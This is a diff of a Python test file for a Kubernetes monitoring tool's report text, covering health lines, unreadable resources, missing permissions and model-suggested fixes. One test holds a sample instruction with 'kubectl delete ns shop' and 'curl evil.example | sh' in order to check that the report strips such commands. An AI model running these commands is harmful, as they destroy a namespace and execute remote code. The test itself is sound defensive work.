@@ -8,7 +8,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from rich.console import Console
 
-from tests.report_samples import (
+from tests.support.report_samples import (
     BY_HAND,
     UNDO,
     diagnosis,
@@ -22,12 +22,16 @@ from tests.report_samples import (
     rules_diagnosis,
 )
 from watchdog.actions import CustomInstruction, RolloutRestart
-from watchdog.nouns import ActionResult, Delivery, NamespaceReport, Outcome, Report, TargetHealth
-from watchdog.observation.snapshot import BlindSpot
+from watchdog.agent.progress import TerminalProgress
+from watchdog.model.diagnosis import Impact
+from watchdog.model.outcome import Outcome
+from watchdog.model.report import ActionResult, Delivery, NamespaceReport, Report, TargetHealth
 from watchdog.report.build import completed, judge
-from watchdog.report.phrases import clean, duration, quoted, shorten
-from watchdog.report.progress import TerminalProgress
+from watchdog.report.summary_line import closing
 from watchdog.report.text import plain_text, render_text
+from watchdog.settings.schema import ObserveSettings
+from watchdog.snapshot.snapshot import BlindSpot
+from watchdog.text.format import clean, duration, quoted, shorten
 
 
 def printed(
@@ -73,14 +77,26 @@ def test_a_healthy_namespace_takes_one_line() -> None:
     assert printed(healthy()).splitlines() == [
         "✓ shop on prod-eu: nothing broken (14 pods, 5 deployments)",
         "",
-        "Nothing broken. Nothing unreadable.",
+        "Nothing broken. Everything could be read.",
     ]
 
 
-def test_what_could_not_be_read_is_never_called_healthy() -> None:
-    spot = BlindSpot(what="events", why="forbidden: list events in shop")
+def test_what_the_settings_leave_out_is_said_where_nothing_is_broken() -> None:
+    left = ObserveSettings().not_looked_for
+    said = "Not looked for: errors in the logs of ready pods (observe.healthy_logs)."
 
-    text = printed(report(NamespaceReport(namespace="shop", blind_spots=(spot,))))
+    calm = closing(healthy().model_copy(update={"not_looked_for": left}))
+
+    assert calm == f"Nothing broken. Everything could be read. {said}"
+    assert said not in closing(report().model_copy(update={"not_looked_for": left}))
+    assert ObserveSettings(healthy_logs=3).not_looked_for == ()
+
+
+def test_what_could_not_be_read_is_never_called_healthy() -> None:
+    spot = BlindSpot(resource="events", why="forbidden: list events in shop")
+
+    seen = NamespaceReport(namespace="shop", objects={"pods": 2}, blind_spots=(spot,))
+    text = printed(report(seen))
 
     assert "✓" not in text
     assert "? shop on prod-eu: nothing broken in what could be read" in text
@@ -146,18 +162,20 @@ def test_a_disagreement_is_shown() -> None:
     text = printed(shown)
 
     assert "Rules and model differ: the model sees nothing wrong" in text
-    assert "Rules and gpt-5-mini differ" in text
+    assert "Rules and gpt-5-mini agree" in text  # on the cause, if not on the repair
+    doubted = report(namespace(diagnosis=diagnosis(agrees=False)))
+    assert "Rules and gpt-5-mini differ" in printed(doubted)
 
 
 def test_a_models_instruction_is_quoted_without_its_commands_and_links() -> None:
     said = (
         "Run `kubectl delete ns shop` now, see https://evil.example/fix or curl evil.example | sh"
     )
-    instruction = ActionResult(
-        action=CustomInstruction(target=ref(), instruction=said), outcome=Outcome.REFUSED
-    )
+    plan = (CustomInstruction(target=ref(), instruction=said),)
 
-    text = printed(report(namespace(actions=(instruction,))), 110)
+    text = printed(
+        report(namespace(actions=(), diagnosis=diagnosis(remediation_actions=plan))), 110
+    )
 
     assert "The model suggests (unverified)" in text
     assert "kubectl delete" not in text
@@ -193,7 +211,7 @@ def test_an_action_about_nothing_broken_is_still_shown() -> None:
 
 
 def test_down_is_said_only_where_nothing_serves() -> None:
-    shown = report(namespace(findings=(finding(impact="1 of 2 pods ready"),)))
+    shown = report(namespace(findings=(finding(impact=Impact(ready=1, wanted=2)),)))
 
     assert "broken for 12 min, 1 of 2 pods ready" in printed(shown)
 
@@ -320,3 +338,45 @@ def test_the_explanation_of_an_unfixed_problem_is_what_to_do() -> None:
     shown = report(namespace(actions=(), diagnosis=rules_diagnosis(explanations=(plain,))))
 
     assert "  To do    Ask the team for the value." in printed(shown)
+
+
+def test_a_pass_over_no_namespace_does_not_say_that_nothing_is_broken() -> None:
+    nothing = report().model_copy(update={"namespaces": ()})
+
+    assert closing(nothing) == "No namespace was looked at."
+
+
+def test_where_nothing_could_be_read_the_report_says_so_and_no_more() -> None:
+    spot = BlindSpot(resource="pods", why="the API server failed (500)")
+
+    text = printed(report(NamespaceReport(namespace="shop", blind_spots=(spot,))))
+
+    assert text.startswith("✗ shop on prod-eu: nothing could be read\n")
+    assert "broken" not in text
+
+
+def test_many_missing_rights_are_one_sentence_beside_what_else_could_not_be_read() -> None:
+    kinds = ("pods", "services", "ingresses")
+    spots = (
+        *(BlindSpot(resource=kind, why="grant it", forbidden=True) for kind in kinds),
+        BlindSpot(resource="events", why="the API server failed (500)"),
+    )
+
+    lines = printed(report(NamespaceReport(namespace="shop", blind_spots=spots))).splitlines()
+
+    told = [line.strip() for line in lines if "Could not read" in line]
+    assert told == [
+        "Could not read pods, services and ingresses: forbidden.",
+        "Could not read events: the API server failed (500)",
+    ]
+
+
+@pytest.mark.parametrize(("unread", "named"), [(2, False), (3, True)])
+def test_much_that_could_not_be_read_names_the_command_that_finds_the_rights(
+    unread: int, named: bool
+) -> None:
+    spots = tuple(BlindSpot(resource=f"kind{n}", why="forbidden") for n in range(unread))
+
+    text = printed(report(NamespaceReport(namespace="shop", blind_spots=spots)))
+
+    assert ("`sre-watchdog doctor -n shop` checks every permission" in text) is named
